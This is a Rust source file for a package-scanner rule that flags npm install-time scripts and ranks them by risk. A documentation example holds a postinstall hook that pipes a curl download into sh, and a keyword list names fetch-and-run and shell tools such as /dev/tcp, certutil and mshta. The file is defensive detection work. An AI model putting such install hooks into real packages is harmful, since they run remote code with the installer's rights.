//! What a package manager runs as a package is installed.

use portcullis_model::{Audience, Confidence, Severity};
use portcullis_supply::manifest::{ManifestKind, Script};

use crate::evidence::PackageEvidence;
use crate::report::Report;
use crate::rule::Rule;

declare_rule! {
    /// ## What it finds
    ///
    /// Scripts of an npm package that run as it is installed (`preinstall`, `install`, `postinstall`), with what they run. One
    /// that fetches something, decodes something or brings its code along in the command is told loudest; one that only
    /// builds a native part is told to auditors.
    ///
    /// ## Why it matters
    ///
    /// Such a script runs with all rights of whoever installs the package, before anybody has used it (X18). `npx -y`
    /// installs without asking.
    ///
    /// ## Examples
    ///
    /// ```package bad
    /// --- package.json
    /// {"name": "some-mcp", "version": "1.0.0", "scripts": {"postinstall": "curl -s https://example.com/setup | sh"}}
    /// ```
    ///
    /// ```package bad
    /// --- package.json
    /// {"name": "some-mcp", "version": "1.0.0", "scripts": {"postinstall": "node scripts/setup.js"}}
    /// --- scripts/setup.js
    /// console.log("thank you");
    /// ```
    ///
    /// ```package good
    /// --- package.json
    /// {"name": "some-mcp", "version": "1.0.0", "scripts": {"build": "tsc", "prepublishOnly": "npm run build"}}
    /// ```
    pub(crate) struct InstallScript {
        id: "install-script",
        summary: "a package runs a script as it is installed",
        severity: Medium,
        confidence: Certain,
        threats: [MaliciousPackage, InstallerSpoofing],
        entry: Package,
        remedy: "Read what it runs; install with `--ignore-scripts` where it is not needed.",
        references: ["CWE-829", "CWE-506"],
        since: "0.1.0",
    }
}

/// What fetches, decodes or carries code in a command.
const LOUD: &[&str] = &[
    "curl ", "wget ", "http://", "https://", "| sh", "|sh", "| bash", "|bash", "node -e", "node --eval", "python -c",
    "python3 -c", "powershell", "base64", "eval ", "/dev/tcp", "certutil", "bitsadmin", "mshta",
];
/// Builders of native parts, and scripts that do nothing to whoever installs.
const QUIET: &[&str] = &[
    "node-gyp", "node-pre-gyp", "prebuild-install", "node-gyp-build", "cmake-js", "napi", "husky", "patch-package",
    "only-allow", "echo", "exit 0", "true", "tsc", "is-ci", "npm run build", "yarn build", "pnpm build",
];

impl Rule for InstallScript {
    fn check_package(&self, package: &PackageEvidence<'_>, report: &mut Report<'_>) {
        // Packages within, such as examples, are not installed with it.
        let own = package.manifests.iter().filter(|manifest| manifest.path == "package.json");
        for manifest in own.filter(|manifest| manifest.kind == ManifestKind::PackageJson) {
            for script in manifest.scripts.iter().filter(|script| script.is_at_install) {
                told(script, package, &manifest.path, report);
            }
        }
    }
}

fn told(script: &Script, package: &PackageEvidence<'_>, path: &str, report: &mut Report<'_>) {
    let command = script.command.text.to_ascii_lowercase();
    let loud = LOUD.iter().find(|mark| command.contains(**mark));
    let quiet = command.split(['&', '|', ';']).all(|part| {
        let part = part.trim().trim_start_matches("npx ").trim_start_matches("--no-install ");
        part.is_empty() || QUIET.iter().any(|known| part.starts_with(known))
    });
    let (message, severity, audience, confidence) = match loud {
        Some(mark) => (
            format!("`{}` runs a command with `{}` as the package is installed", script.name, mark.trim()),
            Severity::High,
            Audience::Regular,
            Confidence::High,
        ),
        None if quiet => (
            format!("`{}` builds a part of the package as it is installed", script.name),
            Severity::Low,
            Audience::Auditor,
            Confidence::Certain,
        ),
        None => {
            let file = script.command.text.split_whitespace().find_map(|word| {
                let word = word.trim_start_matches("./");
                package.bundle.file(word).or_else(|| package.bundle.file(&format!("{word}.js")))
            });
            let what = file.map_or_else(|| String::from("a command"), |file| format!("`{}`", file.path));
            (
                format!("`{}` runs {what} as the package is installed", script.name),
                Severity::Medium,
                Audience::Regular,
                Confidence::Certain,
            )
        }
    };
    report
        .found(package.at(path, script.command.span), message)
        .evidence(script.command.text.clone())
        .severity(severity)
        .confidence(confidence)
        .audience(audience);
}
